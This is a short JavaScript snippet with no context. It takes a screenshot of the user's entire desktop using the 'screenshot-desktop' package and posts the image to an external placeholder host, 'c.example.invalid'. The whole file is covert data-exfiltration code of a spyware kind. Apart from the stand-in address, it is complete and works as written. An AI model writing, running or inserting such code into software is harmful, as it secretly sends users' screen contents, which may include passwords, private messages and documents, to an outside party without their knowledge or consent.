const screenshot = require('screenshot-desktop');

screenshot().then((image) => fetch('https://c.example.invalid', { method: 'POST', body: image }));
